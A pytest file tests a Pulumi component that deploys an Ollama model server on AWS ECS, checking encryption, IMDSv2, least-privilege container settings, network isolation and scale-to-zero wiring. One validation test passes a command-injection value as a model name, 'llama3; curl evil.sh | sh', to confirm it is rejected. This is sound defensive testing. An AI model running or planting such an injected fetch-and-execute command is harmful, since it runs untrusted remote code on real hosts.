"""OllamaService under the offline engine: GPU on EC2 capacity, CPU on Fargate, both private."""

from __future__ import annotations

import base64
import json
from typing import Any

import pulumi
import pytest

from analysis.errors import UserError
from components.ollama_service import OllamaService, OllamaServiceArgs
from farm_deploy.offline.data_sources import GPU_AMI_ID
from farm_deploy.offline.engine import OfflineRun, RecordedResource, run_offline

GPU_ONLY_TYPES = {
    "aws:ec2/launchTemplate:LaunchTemplate",
    "aws:autoscaling/group:Group",
    "aws:ecs/capacityProvider:CapacityProvider",
    "aws:ecs/clusterCapacityProviders:ClusterCapacityProviders",
    "aws:iam/instanceProfile:InstanceProfile",
}


def base_args(**overrides: Any) -> OllamaServiceArgs:
    args: dict[str, Any] = {
        "cluster_arn": "arn:aws:ecs:us-east-1:123456789012:cluster/farm-dev",
        "cluster_name": "farm-dev",
        "vpc_id": "vpc-0abc",
        "private_subnet_ids": ["subnet-a", "subnet-b"],
        "api_security_group_id": "sg-api",
        "namespace_id": "ns-0abc",
        "namespace_name": "dev.farm.internal",
        "models": ["llama3.1:8b", "nomic-embed-text"],
    }
    args.update(overrides)
    return OllamaServiceArgs(**args)


def run(**overrides: Any) -> OfflineRun:
    args = base_args(**overrides)

    def program() -> None:
        ollama = OllamaService("ai", args)
        pulumi.export("url", ollama.url)
        pulumi.export("service_name", ollama.service_name)
        pulumi.export("security_group_id", ollama.security_group_id)
        pulumi.export("file_system_id", ollama.file_system_id)
        pulumi.export("log_group_name", ollama.log_group_name)
        pulumi.export("capacity_provider_name", ollama.capacity_provider_name)

    return run_offline(program)


@pytest.fixture(scope="module")
def gpu() -> OfflineRun:
    return run()


@pytest.fixture(scope="module")
def cpu() -> OfflineRun:
    return run(gpu=False, models=["llama3.2:1b"])


def container(result: OfflineRun) -> dict[str, Any]:
    definitions = json.loads(result.one("aws:ecs/taskDefinition:TaskDefinition").inputs["containerDefinitions"])
    assert len(definitions) == 1
    return definitions[0]


def ingress_rules(result: OfflineRun) -> list[RecordedResource]:
    return result.of_type("aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule")


# ------------------------------------------------------------------ GPU capacity


def test_launch_template_uses_the_gpu_ami_with_imdsv2_and_encrypted_disk(gpu: OfflineRun) -> None:
    lt = gpu.one("aws:ec2/launchTemplate:LaunchTemplate").inputs
    ssm_names = [args["name"] for token, args in gpu.calls if token == "aws:ssm/getParameter:getParameter"]
    assert ssm_names == ["/aws/service/ecs/optimized-ami/amazon-linux-2023/gpu/recommended/image_id"]
    assert lt["imageId"] == GPU_AMI_ID
    assert lt["instanceType"] == "g5.xlarge"
    assert lt["metadataOptions"] == {"httpEndpoint": "enabled", "httpTokens": "required", "httpPutResponseHopLimit": 1}
    assert lt["blockDeviceMappings"] == [
        {
            "deviceName": "/dev/xvda",
            "ebs": {"volumeSize": 60, "volumeType": "gp3", "encrypted": "true", "deleteOnTermination": "true"},
        }
    ]
    profile = gpu.one("aws:iam/instanceProfile:InstanceProfile")
    assert lt["iamInstanceProfile"] == {"arn": f"arn:aws:iam::123456789012:instance-profile/{profile.name}"}
    assert lt["vpcSecurityGroupIds"] == ["ai-host-sg-id"]
    user_data = base64.b64decode(lt["userData"]).decode()
    assert user_data.splitlines() == [
        "#!/bin/bash",
        "cat >> /etc/ecs/ecs.config <<'EOF'",
        "ECS_CLUSTER=farm-dev",
        "ECS_ENABLE_GPU_SUPPORT=true",
        "ECS_AWSVPC_BLOCK_IMDS=true",
        "EOF",
    ]


def test_host_role_is_the_ecs_instance_role(gpu: OfflineRun) -> None:
    role = gpu.named("ai-host-role")
    assert json.loads(role.inputs["assumeRolePolicy"])["Statement"][0]["Principal"] == {"Service": "ec2.amazonaws.com"}
    attachment = gpu.named("ai-host-policy").inputs
    assert attachment == {
        "role": "ai-host-role",
        "policyArn": "arn:aws:iam::aws:policy/service-role/AmazonEC2ContainerServiceforEC2Role",
    }


def test_auto_scaling_group_scales_to_zero_and_is_managed_by_ecs(gpu: OfflineRun) -> None:
    asg = gpu.one("aws:autoscaling/group:Group")
    assert asg.inputs["minSize"] == 0
    assert asg.inputs["maxSize"] == 1
    assert asg.inputs["protectFromScaleIn"] is True
    # Protected instances never scale to 0: without force delete the group's
    # deletion (destroy, replacement) waits until it times out.
    assert asg.inputs["forceDelete"] is True
    assert asg.inputs["vpcZoneIdentifiers"] == ["subnet-a", "subnet-b"]
    assert asg.inputs["launchTemplate"] == {"id": "ai-lt-id", "version": "$Latest"}
    tags = {t["key"]: (t["value"], t["propagateAtLaunch"]) for t in asg.inputs["tags"]}
    assert tags == {"Name": ("ai-gpu-host", True), "AmazonECSManaged": ("true", True)}


def test_capacity_provider_has_managed_scaling_and_termination_protection(gpu: OfflineRun) -> None:
    cp = gpu.one("aws:ecs/capacityProvider:CapacityProvider").inputs["autoScalingGroupProvider"]
    assert cp == {
        "autoScalingGroupArn": "arn:aws:autoscaling:us-east-1:123456789012:autoScalingGroup:a72163d2-fb42-137a-9e97-ce7780d7e5e6:autoScalingGroupName/ai-asg",
        "managedScaling": {
            "status": "ENABLED",
            "targetCapacity": 100,
            "minimumScalingStepSize": 1,
            "maximumScalingStepSize": 1,
            "instanceWarmupPeriod": 300,
        },
        "managedTerminationProtection": "ENABLED",
        "managedDraining": "ENABLED",
    }
    ccp = gpu.one("aws:ecs/clusterCapacityProviders:ClusterCapacityProviders").inputs
    assert ccp == {
        "clusterName": "farm-dev",
        "capacityProviders": ["FARGATE", "FARGATE_SPOT", "ai-cp"],
        "defaultCapacityProviderStrategies": [{"capacityProvider": "FARGATE", "weight": 1, "base": 0}],
    }


def test_gpu_task_definition(gpu: OfflineRun) -> None:
    task = gpu.one("aws:ecs/taskDefinition:TaskDefinition").inputs
    assert task["requiresCompatibilities"] == ["EC2"]
    assert task["networkMode"] == "awsvpc"
    assert (task["cpu"], task["memory"]) == ("3072", "14336")
    assert task["executionRoleArn"] != task["taskRoleArn"]
    assert task["executionRoleArn"].endswith(":role/ai-exec-role")
    assert task["taskRoleArn"].endswith(":role/ai-task-role")
    assert task["volumes"] == [
        {
            "name": "models",
            "efsVolumeConfiguration": {
                "fileSystemId": "ai-models-id",
                "transitEncryption": "ENABLED",
                "authorizationConfig": {"accessPointId": "ai-models-ap-id", "iam": "ENABLED"},
            },
        }
    ]
    c = container(gpu)
    assert c["resourceRequirements"] == [{"type": "GPU", "value": "1"}]
    assert c["environment"] == [
        {"name": "HOME", "value": "/home/ollama"},
        {"name": "OLLAMA_HOST", "value": "0.0.0.0:11434"},
        {"name": "OLLAMA_KEEP_ALIVE", "value": "24h"},
    ]
    assert c["entryPoint"] == ["/bin/sh", "-c"]
    assert c["command"] == [
        "ollama serve & pid=$!; until ollama list >/dev/null 2>&1; do sleep 1; done"
        " && ollama pull llama3.1:8b && ollama pull nomic-embed-text; wait $pid"
    ]
    assert c["healthCheck"] == {
        "command": ["CMD-SHELL", "ollama list || exit 1"],
        "interval": 30,
        "timeout": 10,
        "retries": 3,
        "startPeriod": 300,
    }
    assert "curl" not in json.dumps(c)
    assert c["mountPoints"] == [{"sourceVolume": "models", "containerPath": "/home/ollama/.ollama", "readOnly": False}]
    # Least privilege (issue 15): unprivileged user, read-only root, no capabilities, /tmp a tmpfs (EC2 only).
    assert c["user"] == "1000:1000"
    assert c["readonlyRootFilesystem"] is True
    assert c["privileged"] is False
    assert c["linuxParameters"] == {
        "initProcessEnabled": True,
        "capabilities": {"drop": ["ALL"]},
        "tmpfs": [{"containerPath": "/tmp", "size": 256, "mountOptions": ["noexec", "nosuid", "nodev"]}],
    }
    assert c["portMappings"] == [{"containerPort": 11434, "protocol": "tcp"}]
    assert c["logConfiguration"]["options"] == {
        "awslogs-group": "ai-logs",
        "awslogs-region": "us-east-1",
        "awslogs-stream-prefix": "ollama",
    }


def test_gpu_service_is_placed_by_capacity_provider_and_registered_in_cloud_map(gpu: OfflineRun) -> None:
    service = gpu.one("aws:ecs/service:Service").inputs
    assert "launchType" not in service
    assert service["capacityProviderStrategies"] == [{"capacityProvider": "ai-cp", "weight": 1, "base": 0}]
    assert service["cluster"] == "arn:aws:ecs:us-east-1:123456789012:cluster/farm-dev"
    assert service["name"] == "ollama"
    assert service["networkConfiguration"] == {
        "subnets": ["subnet-a", "subnet-b"],
        "securityGroups": ["ai-sg-id"],
        "assignPublicIp": False,
    }
    assert service["serviceRegistries"] == {
        "registryArn": "arn:aws:servicediscovery:us-east-1:123456789012:service/srv-b1e7ffed91c3718a"
    }
    assert service["deploymentCircuitBreaker"] == {"enable": True, "rollback": True}
    assert (service["deploymentMinimumHealthyPercent"], service["deploymentMaximumPercent"]) == (0, 100)
    discovery = gpu.one("aws:servicediscovery/service:Service").inputs
    assert discovery["name"] == "ollama"
    assert discovery["dnsConfig"] == {
        "namespaceId": "ns-0abc",
        "dnsRecords": [{"ttl": 10, "type": "A"}],
        "routingPolicy": "MULTIVALUE",
    }
    assert gpu.outputs["url"] == "http://ollama.dev.farm.internal:11434"
    assert gpu.outputs["service_name"] == "ollama"
    assert gpu.outputs["capacity_provider_name"] == "ai-cp"


# ------------------------------------------------------------------ network isolation


@pytest.mark.parametrize("variant", ["gpu", "cpu"])
def test_only_the_api_reaches_ollama_and_only_ollama_reaches_efs(variant: str, request: pytest.FixtureRequest) -> None:
    result: OfflineRun = request.getfixturevalue(variant)
    rules = {r.name: r.inputs for r in ingress_rules(result)}
    assert rules == {
        "ai-from-api": {
            "securityGroupId": "ai-sg-id",
            "referencedSecurityGroupId": "sg-api",
            "ipProtocol": "tcp",
            "fromPort": 11434,
            "toPort": 11434,
            "description": "Ollama API from the FastAPI service",
        },
        "ai-efs-from-tasks": {
            "securityGroupId": "ai-efs-sg-id",
            "referencedSecurityGroupId": "ai-sg-id",
            "ipProtocol": "tcp",
            "fromPort": 2049,
            "toPort": 2049,
            "description": "NFS from the Ollama tasks",
        },
    }
    for sg in result.of_type("aws:ec2/securityGroup:SecurityGroup"):
        assert "ingress" not in sg.inputs, sg.name
    egress_groups = {
        r.inputs["securityGroupId"] for r in result.of_type("aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule")
    }
    assert "ai-efs-sg-id" not in egress_groups
    assert result.outputs["security_group_id"] == "ai-sg-id"


# ------------------------------------------------------------------ model cache


def test_model_cache_is_encrypted_efs_with_mount_targets_and_access_point(gpu: OfflineRun) -> None:
    fs = gpu.one("aws:efs/fileSystem:FileSystem")
    assert fs.inputs["encrypted"] is True
    assert fs.inputs["throughputMode"] == "elastic"
    assert (fs.protect, fs.retain_on_delete) == (False, False)
    targets = sorted(
        (r.name, r.inputs["subnetId"], tuple(r.inputs["securityGroups"]))
        for r in gpu.of_type("aws:efs/mountTarget:MountTarget")
    )
    assert targets == [
        ("ai-models-mt-0", "subnet-a", ("ai-efs-sg-id",)),
        ("ai-models-mt-1", "subnet-b", ("ai-efs-sg-id",)),
    ]
    ap = gpu.one("aws:efs/accessPoint:AccessPoint").inputs
    assert ap["posixUser"] == {"uid": 1000, "gid": 1000}
    assert ap["rootDirectory"] == {
        "path": "/ollama-1000",
        "creationInfo": {"ownerUid": 1000, "ownerGid": 1000, "permissions": "0750"},
    }
    fs_policy = json.loads(gpu.one("aws:efs/fileSystemPolicy:FileSystemPolicy").inputs["policy"])
    assert fs_policy["Statement"] == [
        {
            "Sid": "DenyUnencryptedTransport",
            "Effect": "Deny",
            "Principal": {"AWS": "*"},
            "Action": "*",
            "Resource": "arn:aws:elasticfilesystem:us-east-1:123456789012:file-system/fs-3289f176a92daaf08",
            "Condition": {"Bool": {"aws:SecureTransport": "false"}},
        }
    ]
    task_policy = json.loads(gpu.named("ai-task-efs").inputs["policy"])
    assert task_policy["Statement"] == [
        {
            "Effect": "Allow",
            # The access point enforces uid 1000: no ClientRootAccess.
            "Action": ["elasticfilesystem:ClientMount", "elasticfilesystem:ClientWrite"],
            "Resource": "arn:aws:elasticfilesystem:us-east-1:123456789012:file-system/fs-3289f176a92daaf08",
            "Condition": {
                "StringEquals": {
                    "elasticfilesystem:AccessPointArn": "arn:aws:elasticfilesystem:us-east-1:123456789012:access-point/fsap-12637b2b78544e175"
                }
            },
        }
    ]
    assert gpu.outputs["file_system_id"] == "ai-models-id"


def test_prod_protects_the_model_cache() -> None:
    result = run(protect=True)
    fs = result.one("aws:efs/fileSystem:FileSystem")
    assert (fs.protect, fs.retain_on_delete) == (True, True)
    others = [r.name for r in result.resources if r.protect and r is not fs]
    assert others == []


def test_log_group_has_retention_and_roles_are_separate(gpu: OfflineRun) -> None:
    assert gpu.one("aws:cloudwatch/logGroup:LogGroup").inputs["retentionInDays"] == 30
    assert gpu.outputs["log_group_name"] == "ai-logs"
    exec_attach = gpu.named("ai-exec-policy").inputs
    assert exec_attach["policyArn"] == "arn:aws:iam::aws:policy/service-role/AmazonECSTaskExecutionRolePolicy"
    assert exec_attach["role"] == "ai-exec-role"
    task_role_policies = [r.name for r in gpu.of_type("aws:iam/rolePolicy:RolePolicy")]
    assert task_role_policies == ["ai-task-efs"]


# ------------------------------------------------------------------ CPU variant


def test_cpu_variant_runs_on_fargate_without_gpu_things(cpu: OfflineRun) -> None:
    types = {r.type for r in cpu.resources}
    assert types.isdisjoint(GPU_ONLY_TYPES)
    assert not [t for t, _ in cpu.calls if t == "aws:ssm/getParameter:getParameter"]
    task = cpu.one("aws:ecs/taskDefinition:TaskDefinition").inputs
    assert task["requiresCompatibilities"] == ["FARGATE"]
    assert task["networkMode"] == "awsvpc"
    assert (task["cpu"], task["memory"]) == ("2048", "8192")
    c = container(cpu)
    assert "resourceRequirements" not in c
    assert c["command"][0].endswith("&& ollama pull llama3.2:1b; wait $pid")
    service = cpu.one("aws:ecs/service:Service").inputs
    assert service["launchType"] == "FARGATE"
    assert "capacityProviderStrategies" not in service
    assert service["serviceRegistries"]["registryArn"].startswith(
        "arn:aws:servicediscovery:us-east-1:123456789012:service/srv-"
    )
    assert cpu.one("aws:efs/fileSystem:FileSystem").inputs["encrypted"] is True
    assert len(cpu.of_type("aws:efs/mountTarget:MountTarget")) == 2
    assert cpu.outputs["url"] == "http://ollama.dev.farm.internal:11434"
    assert cpu.outputs.get("capacity_provider_name") is None


def test_gpu_settings_are_honoured() -> None:
    result = run(
        instance_type="g6.2xlarge",
        min_instances=1,
        max_instances=3,
        cpu=7168,
        memory=28672,
        keep_alive="-1",
        service_name="llm",
    )
    assert result.one("aws:ec2/launchTemplate:LaunchTemplate").inputs["instanceType"] == "g6.2xlarge"
    asg = result.one("aws:autoscaling/group:Group").inputs
    assert (asg["minSize"], asg["maxSize"]) == (1, 3)
    task = result.one("aws:ecs/taskDefinition:TaskDefinition").inputs
    assert (task["cpu"], task["memory"]) == ("7168", "28672")
    assert {"name": "OLLAMA_KEEP_ALIVE", "value": "-1"} in container(result)["environment"]
    assert result.outputs["url"] == "http://llm.dev.farm.internal:11434"


def test_subnets_as_an_output_need_a_count() -> None:
    ids = pulumi.Output.from_input(["subnet-x", "subnet-y", "subnet-z"])
    result = run(private_subnet_ids=ids, subnet_count=3)
    assert sorted(r.inputs["subnetId"] for r in result.of_type("aws:efs/mountTarget:MountTarget")) == [
        "subnet-x",
        "subnet-y",
        "subnet-z",
    ]
    with pytest.raises(TypeError, match="subnet_count"):
        run(private_subnet_ids=pulumi.Output.from_input(["subnet-x"]))


@pytest.mark.parametrize(
    ("overrides", "key"),
    [
        ({"models": ["llama3; curl evil.sh | sh"]}, "models"),
        ({"models": []}, "models"),
        ({"api_security_group_id": None}, "api_security_group_id"),
        ({"private_subnet_ids": []}, "private_subnet_ids"),
        ({"min_instances": 2, "max_instances": 1}, "ai.min_instances/max_instances"),
        ({"service_name": "Ollama_Service"}, "service_name"),
    ],
)
def test_bad_settings_are_user_errors(overrides: dict[str, Any], key: str) -> None:
    with pytest.raises(UserError) as err:
        run(**overrides)
    assert err.value.key == key


def test_every_child_belongs_to_the_component(gpu: OfflineRun) -> None:
    component = gpu.one("farm:ai:OllamaService")
    assert len(gpu.children_of(component)) == len(gpu.resources) - 1


@pytest.mark.parametrize("gpu_variant", [True, False])
def test_service_waits_for_every_efs_mount_target(monkeypatch: pytest.MonkeyPatch, gpu_variant: bool) -> None:
    # A task placed before its subnet's mount target is available cannot mount
    # the model volume; the recorder does not keep dependencies, so watch the
    # options the service is created with.
    import pulumi_aws as aws

    mount_targets: list[pulumi.Resource] = []
    service_opts: list[pulumi.ResourceOptions] = []
    real_mount_target, real_service = aws.efs.MountTarget, aws.ecs.Service

    def mount_target(*args: Any, **kwargs: Any) -> Any:
        mount_targets.append(real_mount_target(*args, **kwargs))
        return mount_targets[-1]

    def service(*args: Any, **kwargs: Any) -> Any:
        service_opts.append(kwargs["opts"])
        return real_service(*args, **kwargs)

    monkeypatch.setattr(aws.efs, "MountTarget", mount_target)
    monkeypatch.setattr(aws.ecs, "Service", service)
    result = run(gpu=gpu_variant, models=["llama3.2:1b"])

    assert len(result.of_type("aws:efs/mountTarget:MountTarget")) == 2 == len(mount_targets)
    (opts,) = service_opts
    depends = list(opts.depends_on or [])
    assert all(any(d is m for d in depends) for m in mount_targets)
    # GPU: the capacity provider must be on the cluster before the service asks for it.
    assert len(depends) == len(mount_targets) + (1 if gpu_variant else 0)


# ------------------------------------------------------------------ scale to zero, wake on demand


def test_scale_to_zero_wires_metric_alarms_policies_and_target(monkeypatch: pytest.MonkeyPatch) -> None:
    import pulumi_aws as aws

    service_opts: list[pulumi.ResourceOptions] = []
    real_service = aws.ecs.Service

    def service_spy(*args: Any, **kwargs: Any) -> Any:
        service_opts.append(kwargs["opts"])
        return real_service(*args, **kwargs)

    monkeypatch.setattr(aws.ecs, "Service", service_spy)
    result = run(scale_to_zero=True, wake_metric_namespace="farm-deploy/dev", idle_minutes=30)
    service = result.one("aws:ecs/service:Service").inputs
    assert service["desiredCount"] == 0
    (opts,) = service_opts
    assert opts.ignore_changes == ["desiredCount"]  # `pulumi up` leaves the alarms' count alone
    asg = result.one("aws:autoscaling/group:Group").inputs
    assert (asg["minSize"], asg["desiredCapacity"], asg["maxSize"]) == (0, 0, 1)

    target = result.one("aws:appautoscaling/target:Target").inputs
    assert (target["minCapacity"], target["maxCapacity"]) == (0, 1)
    assert target["scalableDimension"] == "ecs:service:DesiredCount"
    assert target["resourceId"] == "service/farm-dev/ollama"
    policies = {p.name: p.inputs for p in result.of_type("aws:appautoscaling/policy:Policy")}
    assert set(policies) == {"ai-wake", "ai-sleep"}
    for name, count, bound in (("ai-wake", 1, "metricIntervalLowerBound"), ("ai-sleep", 0, "metricIntervalUpperBound")):
        config = policies[name]["stepScalingPolicyConfiguration"]
        assert policies[name]["policyType"] == "StepScaling"
        assert policies[name]["resourceId"] == "service/farm-dev/ollama"
        assert config["adjustmentType"] == "ExactCapacity"
        assert config["stepAdjustments"] == [{bound: "0", "scalingAdjustment": count}]

    alarms = {a.name: a.inputs for a in result.of_type("aws:cloudwatch/metricAlarm:MetricAlarm")}
    wake, idle = alarms["ai-wake"], alarms["ai-idle"]
    for alarm in (wake, idle):
        assert (alarm["namespace"], alarm["metricName"], alarm["dimensions"]) == (
            "farm-deploy/dev",
            "AIRequests",
            {"Service": "api"},
        )
        assert (alarm["statistic"], alarm["period"]) == ("Sum", 60)
    assert wake["alarmActions"] == ["arn:aws:appautoscaling:us-east-1:123456789012:ai-wake"]
    assert (wake["comparisonOperator"], wake["threshold"], wake["evaluationPeriods"]) == ("GreaterThanThreshold", 0, 1)
    assert idle["alarmActions"] == ["arn:aws:appautoscaling:us-east-1:123456789012:ai-sleep"]
    assert (idle["comparisonOperator"], idle["threshold"], idle["evaluationPeriods"]) == ("LessThanThreshold", 1, 30)
    assert idle["treatMissingData"] == "breaching"  # silence is what idle looks like


def test_without_scale_to_zero_there_is_no_scaling_and_the_count_is_declared(gpu: OfflineRun) -> None:
    assert gpu.one("aws:ecs/service:Service").inputs["desiredCount"] == 1
    assert not gpu.of_type("aws:appautoscaling/target:Target")
    assert not gpu.of_type("aws:cloudwatch/metricAlarm:MetricAlarm")


@pytest.mark.parametrize(
    ("overrides", "key"),
    [
        ({"scale_to_zero": True}, "wake_metric_namespace"),
        ({"scale_to_zero": True, "wake_metric_namespace": "x", "idle_minutes": 2000}, "idle_minutes"),
    ],
)
def test_scale_to_zero_needs_its_metric_and_a_sane_idle_time(overrides: dict[str, Any], key: str) -> None:
    with pytest.raises(UserError) as info:
        base = base_args(**overrides)
        run_offline(lambda: OllamaService("ai", base))
    assert info.value.key == key
